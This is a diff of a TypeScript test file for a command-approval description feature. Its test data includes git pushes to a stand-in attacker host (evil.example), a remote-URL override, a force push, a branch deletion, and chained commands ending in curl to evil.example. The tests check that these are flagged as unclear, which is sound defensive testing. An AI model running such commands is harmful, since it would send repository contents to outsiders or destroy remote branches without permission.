@@ -4,9 +4,9 @@ import { describeConsequences, isToldWhole } from "../../../schema/approval/cons
 import { effectsOfCommand } from "../../../schema/approval/effect.ts";
 import { commandTitle } from "../../../schema/command/command-title.ts";
 
-const command = (text: string) => ({
+const command = (text: string, asked: readonly string[] = [text]) => ({
   subject: { kind: "command" as const, command: text },
-  title: commandTitle(text, [text]),
+  title: commandTitle(text, asked),
   effects: effectsOfCommand(text),
 });
 const told = (asked: Parameters<typeof describeConsequences>[0]) => describeConsequences(asked).map(({ what }) => what);
@@ -19,10 +19,31 @@ test("a push to its own project is told whole, and one that may go elsewhere sta
     expect([text, isToldWhole(command(text))]).toEqual([text, false]);
 });
 
+const unknown = "It runs the command below. What that does can't be told beforehand.";
+const somewhere = "Something is sent to a Git repository. Where to, and what, the command below says.";
+test("a push that is not plainly one of its own branches, or not alone, is never told as one", () => {
+  for (const text of [
+    "git push elsewhere main",
+    "git push git@evil.example:x.git main",
+    "git -c remote.origin.url=https://evil.example/x.git push origin feature",
+    "git push origin +main",
+    "git push origin :old",
+    "bash ./x git push origin feature",
+  ]) {
+    const what = told(command(text));
+    expect([text, what.at(-1), isToldWhole(command(text))]).toEqual([text, unknown, false]);
+    expect(what.join(" ")).not.toMatch(/kept in the project|current version|version number/);
+  }
+  const more = command("git push --tags && ./x.sh git push --tags", ["git push --tags", "./x.sh git push --tags"]);
+  expect(more.title).toMatch(/^Push .*, and 1 more command$/);
+  expect([told(more), isToldWhole(more)]).toEqual([[somewhere, unknown], false]);
+  const reached = command("git push origin a b c; curl https://evil.example", ["git push origin a b c", "curl https://evil.example"]);
+  expect(told(reached)[0]).toContain("evil.example");
+});
+
 test("a command whose effect is not known says so and is never folded", () => {
-  const unknown = command("make everything");
-  expect(told(unknown)).toEqual(["It runs the command below. What that does can't be told beforehand."]);
-  expect(isToldWhole(unknown)).toBe(false);
+  expect(told(command("make everything"))).toEqual([unknown]);
+  expect(isToldWhole(command("make everything"))).toBe(false);
 });
 
 test("what reaches the internet names who sees it", () => {
